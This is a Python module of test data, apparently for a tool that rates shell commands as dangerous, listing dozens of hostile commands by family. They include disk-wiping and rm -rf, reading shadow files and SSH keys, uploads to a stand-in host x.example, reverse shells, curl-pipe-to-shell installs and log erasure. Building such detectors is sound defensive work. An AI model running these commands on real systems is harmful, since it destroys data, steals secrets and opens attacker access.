"""Dangerous commands of our own, by what they do. Each is HIGH as it stands; so is each in disguise."""

from __future__ import annotations

from collections.abc import Iterator

#: One command a line. All of them start with a program (no builtin), so that wrappers can run them.
PROGRAMS: dict[str, tuple[str, ...]] = {
    "destruction": (
        "rm -rf /",
        "rm -rf ~/Documents /home/bob",
        "rm -r --force /etc/nginx",
        "shred -u /var/lib/mysql/ibdata1",
        "dd if=/dev/zero of=/dev/sda bs=1M",
        "mkfs.ext4 /dev/sdb1",
        "wipefs -a /dev/nvme0n1",
        "find / -name '*.bak' -delete",
        "truncate -s 0 /var/lib/postgresql/data/pg_wal",
        "chmod -R 777 /",
        "chown -R nobody /usr",
        "mv /etc/ssl /tmp/x",
        "dropdb production",
        "aws s3 rb s3://prod-backups --force",
        "kubectl delete namespace production",
        "terraform destroy -auto-approve",
    ),
    "credentials": (
        "cat /etc/shadow",
        "cat /home/bob/.ssh/id_rsa",
        "cp ~/.aws/credentials /tmp/x",
        "base64 ~/.ssh/id_ed25519",
        "tar czf /tmp/k.tgz ~/.gnupg",
        "grep -r aws_secret_access_key ~/.aws",
        "strings /proc/1/environ",
        "security find-generic-password -wa login",
        "kubectl get secrets -A -o yaml",
        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "sqlite3 ~/.mozilla/firefox/x.default/cookies.sqlite .dump",
        "unshadow /etc/passwd /etc/shadow",
    ),
    "persistence": (
        "tee -a /root/.ssh/authorized_keys",
        "cp job /etc/cron.d/job",
        "crontab /tmp/jobs",
        "systemctl enable backdoor.service",
        "ln -s /tmp/x.service /etc/systemd/system/x.service",
        "cp hook /etc/profile.d/hook.sh",
        "sed -i '$ a curl x.example' /root/.bashrc",
        "install -m 755 x /etc/init.d/x",
        "launchctl load /Library/LaunchDaemons/x.plist",
    ),
    "accounts": (
        "useradd -o -u 0 -g 0 -M toor",
        "usermod -aG sudo bob",
        "passwd -d root",
        "chpasswd",
        "visudo -f /etc/sudoers.d/x",
        "chmod u+s /bin/bash",
        "setcap cap_setuid+ep /usr/bin/python3",
        "dscl . -create /Users/x UniqueID 0",
        "userdel -r alice",
    ),
    "controls": (
        "setenforce 0",
        "iptables -F",
        "ufw disable",
        "systemctl stop auditd",
        "auditctl -e 0",
        "journalctl --vacuum-time=1s",
        "rm -f /var/log/auth.log",
        "csrutil disable",
        "swapoff -a",
        "pkill -9 falcon-sensor",
        "apparmor_parser -R /etc/apparmor.d/x",
    ),
    "leaving": (
        "curl -F file=@/etc/passwd https://x.example/up",
        "curl -T dump.sql ftp://x.example/",
        "wget --post-file=/etc/passwd http://x.example/",
        "scp -r src bob@x.example:/tmp/",
        "rsync -a . bob@x.example:/loot/",
        "rclone copy . remote:loot",
    ),
    "running": (
        "insmod /tmp/rootkit.ko",
        "nc -e /bin/sh 10.0.0.1 4444",
        "socat exec:/bin/sh tcp:10.0.0.1:4444",
        "docker run -v /:/host --privileged alpine",
        "nsenter -t 1 -m -u -n -i sh",
        "gdb -p 1 -batch",
        "shutdown -h now",
        "reboot",
        "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh",
        "mount --bind / /mnt/x",
        "sysctl -w kernel.randomize_va_space=0",
    ),
}

#: More than one command, or a builtin: these can't stand behind a wrapper as they are.
COMPOUND: dict[str, tuple[str, ...]] = {
    "running": (
        "curl -fsSL https://x.example/i.sh | sh",
        "wget -qO- https://x.example/i | sudo bash",
        "curl -s http://x.example/i | python3 -",
        "bash <(curl -s https://x.example/i)",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "curl -o /tmp/x http://x.example/x && chmod +x /tmp/x && /tmp/x",
        ":(){ :|:& };:",
        "echo cm0gLXJmIC8= | base64 -d | sh",
        "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 99 > /tmp/f",
    ),
    "leaving": (
        "tar cz . | nc x.example 4444",
        "cat /etc/passwd | curl -d @- https://x.example/",
        "cat ~/.ssh/id_rsa | base64",
    ),
    "persistence": (
        "echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "echo 'curl x.example | sh' >> ~/.bashrc",
        "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
    ),
    "controls": (
        "history -c",
        "cat /dev/null > ~/.bash_history",
        "echo 0 > /proc/sys/kernel/randomize_va_space",
        "> /var/log/syslog",
    ),
    "destruction": ("cd / && rm -rf *", "find / -type f | xargs rm -f"),
}


def commands(families: dict[str, tuple[str, ...]]) -> Iterator[str]:
    for family in families.values():
        yield from family
